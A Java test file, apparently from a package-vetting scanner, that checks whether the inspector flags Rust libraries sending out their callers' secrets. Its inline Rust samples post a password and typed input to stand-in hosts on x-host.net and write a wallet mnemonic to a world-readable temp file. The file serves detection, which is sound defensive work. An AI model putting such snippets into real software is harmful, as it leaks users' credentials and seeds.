package lazaret.vetting.inspect;

import static lazaret.vetting.inspect.InspectionFixture.demo;
import static lazaret.vetting.inspect.InspectionFixture.inspect;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import lazaret.testkit.CrateBuilder;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Libraries that disclose data of their callers or other data, and honest clients, uploaders,
/// reporters and stores of secrets.
///
/// They use many clients and forms. They are in two text files, are inert and never built.
final class DisclosingCallsTest {
  record Library(String name, Map<String, String> files) {
    @Override
    public String toString() {
      return name;
    }
  }

  static Stream<Library> thieves() throws IOException {
    return libraries("thieves.txt");
  }

  static Stream<Library> clients() throws IOException {
    return libraries("clients.txt");
  }

  private static Stream<Library> libraries(String file) throws IOException {
    List<Library> all = new ArrayList<>();
    for (String text : read(file).split("(?m)^##### ", -1)) {
      String[] parts = text.split("(?m)^=== ", -1);
      Map<String, String> files = new LinkedHashMap<>();
      for (String part : Arrays.asList(parts).subList(1, parts.length)) {
        int line = part.indexOf('\n');
        files.put(part.substring(0, line), part.substring(line + 1));
      }
      if (!files.isEmpty()) {
        all.add(new Library(parts[0].strip(), files));
      }
    }
    assertThat(all).hasSizeGreaterThan(30);
    return all.stream();
  }

  private static String read(String file) throws IOException {
    try (InputStream in = DisclosingCallsTest.class.getResourceAsStream(file)) {
      assertThat(in).as(file).isNotNull();
      return new String(in.readAllBytes(), StandardCharsets.UTF_8);
    }
  }

  @ParameterizedTest
  @MethodSource
  void thieves(Library library) {
    assertThat(signals(library, SignalWeight.HIGH)).contains("secret-sent");
  }

  @ParameterizedTest
  @MethodSource
  void clients(Library library) {
    assertThat(signals(library, SignalWeight.REVIEW))
        .doesNotContain("secret-sent", "machine-sent", "network-and-secrets", "ci-probe-and-run");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        // A password in a text without its name.
        "pub fn set_password(user: &str, password: &str) { let line = format!(\"{user}"
            + " {password}\"); backup(line); } fn backup(line: String) { let _ ="
            + " ureq::post(\"https://backup.x-host.net\").send_string(&line); }",
        // Lines that a user types.
        "pub fn read() -> String { let mut line = String::new(); std::io::stdin().read_line(&mut"
            + " line); let _ = ureq::post(\"https://tune.x-host.net\").send_string(&line); line }",
        // A file that all users of the machine can read.
        "pub fn seed(mnemonic: &str) { let _ = std::fs::write(\"/tmp/.cache-x11\", mnemonic); }",
      })
  void reviewsWhatMayBeHonest(String source) {
    Library library = new Library("", Map.of("src/lib.rs", source));

    assertThat(signals(library, SignalWeight.REVIEW)).contains("secret-sent");
    assertThat(signals(library, SignalWeight.HIGH)).doesNotContain("secret-sent");
  }

  private static Set<String> signals(Library library, SignalWeight least) {
    CrateBuilder crate =
        demo()
            .manifest(InspectionFixture.MANIFEST + "[dependencies.reqwest]\nversion = \"0.12\"\n");
    library.files().forEach((path, text) -> crate.file(path, InspectionFixture.bytes(text)));
    return inspect(crate).signals().stream()
        .filter(signal -> signal.weight().compareTo(least) >= 0)
        .map(Signal::code)
        .map(Object::toString)
        .collect(Collectors.toSet());
  }
}
